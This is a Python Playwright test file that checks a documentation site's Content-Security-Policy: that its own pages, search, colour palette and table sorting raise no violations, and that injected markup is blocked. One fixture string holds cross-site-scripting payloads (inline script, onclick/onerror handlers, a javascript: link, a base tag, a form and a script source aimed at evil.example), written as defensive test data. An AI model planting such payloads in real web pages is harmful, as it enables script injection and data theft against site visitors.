"""The Content-Security-Policy in a browser: nothing of ours breaks it, nothing smuggled runs."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from reader import Reader, reader_at
from site_build import served

WATCH = """
window.violations = [];
addEventListener("securitypolicyviolation", event => violations.push(event.violatedDirective + " " + event.blockedURI));
"""
PAGES = [
    "", "survey/text-generation/palm/", "survey/image-generation/stable-diffusion/", "models/palm/",
    "compare/language-models/", "contribute/errors/", "404.html",
]  # fmt: skip
MIXED = "survey/text-generation/palm/"


@pytest.fixture
def watched(reader: Reader) -> Reader:
    reader.page.add_init_script(WATCH)
    return reader


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.violations")
    return found


@pytest.mark.parametrize("path", [*PAGES, *[f"en/{path}" for path in PAGES if path != "404.html"]])
def test_no_page_breaks_its_own_policy(watched: Reader, path: str) -> None:
    page = watched.open(path)
    assert page.locator("meta[http-equiv='Content-Security-Policy']").count() == 1
    if path == MIXED:
        expect(page.locator("div.mermaid").first).to_be_attached(timeout=15_000)
    assert violations(page) == []
    assert watched.complaints == []


def test_search_palette_tabs_and_sorting_keep_to_the_policy(watched: Reader) -> None:
    page = watched.open("models/palm/")
    page.locator("label[for=architecture]").click()
    field = page.locator("[data-md-component=search-query]")
    field.focus()
    page.keyboard.insert_text("参数量")
    page.keyboard.press("End")
    expect(page.locator(".md-search-result__item").first).to_be_visible(timeout=10_000)
    field.fill("")
    page.keyboard.press("Enter")  # the theme's form has no target
    page.keyboard.press("Escape")
    page.locator("label[for=__palette_2]:visible, label[for=__palette_1]:visible").first.click()
    assert violations(page) == []
    page.goto(watched.root + "compare/language-models/", wait_until="networkidle")
    page.locator("table.atlas thead button").first.click()
    assert page.locator("table.atlas [aria-sort]").count()
    assert violations(page) == []
    assert watched.complaints == []


def test_the_chosen_colours_are_remembered_on_pages_of_any_depth(watched: Reader) -> None:
    """The theme's inline scripts run: the policy knows them at every depth."""
    page = watched.open("")
    page.locator("label[for=__palette_1]:visible").click()
    chosen = page.evaluate("__md_get('__palette').index")
    for path in ("models/", "en/models/palm/", "404.html"):
        page = watched.open(path)
        assert page.evaluate("__md_get('__palette').index") == chosen, path
        assert violations(page) == []


SMUGGLED = """<script>document.title = "script ran"</script>
<p id="smuggled" onclick="document.title = 'event ran'">x</p>
<img src="https://evil.example/x.png" onerror="document.title = 'error ran'">
<a id="scheme" href="javascript:document.title='scheme ran'">x</a>
<form action="https://evil.example/"><button id="send">x</button></form>
<base href="https://evil.example/"><script src="https://evil.example/x.js"></script>
"""


@pytest.fixture
def smuggled(site: Path, tmp_path: Path, browser: Browser) -> Iterator[Reader]:
    """The site with a page that somehow got past both walls."""
    copy = shutil.copytree(site, tmp_path / "site")
    page = copy / "models" / "palm" / "index.html"
    page.write_text(page.read_text("utf-8").replace("<article", f"{SMUGGLED}<article", 1), "utf-8")
    with served(copy) as root:
        yield from reader_at(browser, root)


def test_what_is_smuggled_does_not_run(smuggled: Reader) -> None:
    smuggled.page.add_init_script(WATCH)
    page = smuggled.open("models/palm/")
    page.locator("#smuggled").click()
    for name in ("scheme", "send"):  # without waiting for the navigation that must not come
        page.evaluate(f"document.getElementById('{name}').click()")
    page.wait_for_timeout(200)
    assert "ran" not in page.title()
    assert page.url == smuggled.root + "models/palm/"
    assert page.evaluate("document.baseURI") == page.url
    assert {found.split()[0] for found in violations(page)} >= {
        "script-src-elem", "script-src-attr", "img-src", "base-uri", "form-action",
    }  # fmt: skip
